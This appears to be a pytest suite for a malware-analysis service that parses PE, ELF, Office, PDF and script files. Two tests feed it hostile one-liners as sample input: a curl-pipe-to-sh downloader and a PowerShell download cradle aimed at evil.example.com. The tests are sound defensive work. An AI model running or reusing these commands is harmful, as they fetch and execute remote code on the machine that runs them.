"""Format metadata and heuristics on real files: PE, ELF, an Office macro document, PDFs, scripts."""

from __future__ import annotations

from samples.basic import (
    distlib_launcher,
    office_macro_document,
    pdf_with_javascript,
    plain_pdf,
    python_elf,
    zip_bytes,
)
from tests.support.memory import peak_memory
from tests.unit.analysis.conftest import hashes


def test_pe_launcher_gets_machine_sections_imports_imphash_and_overlay(analyze):
    data = distlib_launcher().read_bytes()
    report = analyze(data, "launcher.exe")
    entry = report[0]
    assert entry["info"]["file"]["file_type"] == "PE"
    assert entry["info"]["file"]["file_subtype"] in ("Exe", "DLL")
    pe = entry["metadata"]["application"]["pe"]
    assert pe["machine"].startswith("IMAGE_FILE_MACHINE_")
    assert pe["timestamp"] > 0 and pe["timestamp_utc"]
    assert pe["sections"] and all(0 <= s["entropy"] <= 8 for s in pe["sections"])
    assert any(s["executable"] for s in pe["sections"])
    assert any(library["name"].upper().startswith("KERNEL32") for library in pe["imports"])
    assert len(pe["imphash"]) == 32 and hashes(entry)["imphash"] == pe["imphash"]
    assert pe["signature"] == {"present": False, "size": 0}
    assert "count" in pe["resources"]
    assert entry["classification"]["classification"] in (0, 1)


def test_pe_with_high_entropy_overlay_is_flagged_by_the_default_ruleset(analyze):
    import os

    data = distlib_launcher().read_bytes() + os.urandom(64 * 1024)
    entry = analyze(data, "dropper.exe")[0]
    overlay = entry["metadata"]["application"]["pe"]["overlay"]
    assert overlay["size"] >= 64 * 1024 and overlay["entropy"] > 7.5
    assert entry["classification"]["classification"] == 2
    assert entry["classification"]["result"] == "Win32.Dropper.EncryptedOverlay"


def test_elf_interpreter_gets_class_machine_sections_and_libraries(analyze):
    data = python_elf().read_bytes()
    entry = analyze(data, "python3")[0]
    assert entry["info"]["file"]["file_type"] == "ELF"
    elf = entry["metadata"]["application"]["elf"]
    assert elf["class"] in ("ELF32", "ELF64")
    assert elf["machine"].startswith("EM_")
    assert elf["type"] in ("ET_EXEC", "ET_DYN")
    assert elf["sections"] and elf["section_count"] >= len(elf["sections"]) > 0
    assert any(library.startswith("libc.so") for library in elf["dynamic_libraries"])


def test_office_document_with_auto_exec_downloader_macro_is_flagged_malicious(analyze):
    entry = analyze(office_macro_document(), "invoice.doc")[0]
    assert entry["info"]["file"]["file_type"] == "Document"
    office = entry["metadata"]["document"]["office"]
    assert office["macros"] is True
    assert "AutoOpen" in office["auto_exec"]
    assert "CreateObject" in office["suspicious_keywords"]
    assert {"office:macros", "office:auto-exec"} <= {item["id"] for item in entry["indicators"]}
    assert entry["classification"]["classification"] == 3
    assert entry["classification"]["result"] == "Document.Trojan.AutoExecMacro"
    assert "macro" in entry["tags"]


def test_macro_document_inside_a_zip_makes_the_zip_malicious(analyze):
    report = analyze(zip_bytes({"mail/invoice.doc": office_macro_document()}), "mail.zip")
    assert report[0]["classification"]["propagated"] is True
    assert report[0]["classification"]["result"] == "Document.Trojan.AutoExecMacro"


def test_pdf_with_javascript_open_action_is_flagged_suspicious(analyze):
    entry = analyze(pdf_with_javascript(), "form.pdf")[0]
    assert (entry["info"]["file"]["file_type"], entry["info"]["file"]["file_subtype"]) == ("Document", "PDF")
    pdf = entry["metadata"]["document"]["pdf"]
    assert pdf["javascript"] >= 1 and pdf["open_action"] == 1
    assert pdf["version"] == "1.7"
    assert {"pdf:javascript", "pdf:auto-action"} <= {item["id"] for item in entry["indicators"]}
    assert entry["classification"]["classification"] == 2
    assert "pdf-javascript" in entry["tags"]


def test_pdf_names_hidden_with_hex_escapes_are_still_seen(analyze):
    data = pdf_with_javascript().replace(b"/JavaScript", b"/J#61vaScript")
    entry = analyze(data, "hidden.pdf")[0]
    assert entry["metadata"]["document"]["pdf"]["javascript"] >= 1


def test_plain_pdf_is_not_flagged(analyze):
    entry = analyze(plain_pdf(), "plain.pdf")[0]
    assert entry["metadata"]["document"]["pdf"]["javascript"] == 0
    assert entry["classification"]["classification"] == 0


def test_download_and_execute_script_is_malicious_by_yara(analyze):
    script = b"#!/bin/sh\ncurl -s http://203.0.113.9/payload.sh | sh\n"
    entry = analyze(script, "install.sh")[0]
    assert (entry["info"]["file"]["file_type"], entry["info"]["file"]["file_subtype"]) == ("Text", "Shell")
    assert entry["classification"]["result"] == "Script.Downloader.Shell"
    strings = {item["category"]: item["values"] for item in entry["interesting_strings"]}
    assert strings["http"] == ["http://203.0.113.9/payload.sh"]
    assert strings["ipv4"] == ["203.0.113.9"]


def test_powershell_download_cradle_is_malicious(analyze):
    script = b"IEX (New-Object Net.WebClient).DownloadString('https://evil.example.com/a.ps1')\r\n"
    entry = analyze(script, "run.ps1")[0]
    assert entry["info"]["file"]["file_subtype"] == "PowerShell"
    assert entry["classification"]["classification"] == 3


def test_ooxml_zip_is_identified_as_an_office_document(analyze):
    docx = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    entry = analyze(docx, "letter.docx")[0]
    assert (entry["info"]["file"]["file_type"], entry["info"]["file"]["file_subtype"]) == ("Document", "Word")


def test_interesting_strings_are_capped_per_category(analyze):
    urls = b" ".join(b"http://host%d.example.com/" % n for n in range(200))
    entry = analyze(urls, "urls.txt", strings_max_per_category=10)[0]
    strings = {item["category"]: item["values"] for item in entry["interesting_strings"]}
    assert len(strings["http"]) == 10 and len(strings["domain"]) == 10


def test_an_analyzer_that_raises_is_recorded_in_the_entry_and_the_others_still_run(analyze, monkeypatch):
    import dataclasses

    from worker.analysis import registry

    def broken(context):
        raise ValueError("parser exploded")

    analyzers = tuple(
        dataclasses.replace(analyzer, run=broken) if analyzer.name == "pdf" else analyzer
        for analyzer in registry.ANALYZERS
    )
    monkeypatch.setattr(registry, "ANALYZERS", analyzers)
    entry = analyze(pdf_with_javascript(), "form.pdf")[0]
    assert {"analyzer": "pdf", "error": "ValueError: parser exploded"} in entry["errors"]
    assert entry["info"]["file"]["hashes"]


def test_a_docx_with_a_huge_compressed_ole_member_is_not_read_whole(analyze):
    """olevba reads OLE members whole; a 100 MiB member behind a ~100 KB docx must be refused."""
    ole_magic = bytes.fromhex("D0CF11E0A1B11AE1")
    docx = zip_bytes(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document/>",
            "word/vbaProject.bin": ole_magic + bytes(100 * 1024**2),
        }
    )
    assert len(docx) < 1024**2
    report, peak = peak_memory(lambda: analyze(docx, "bomb.docx"))
    entry = report[0]
    office = entry["metadata"]["document"]["office"]
    assert office["macros"] is None
    assert "expands to more than" in office["errors"][0]
    assert peak < 64 * 1024**2
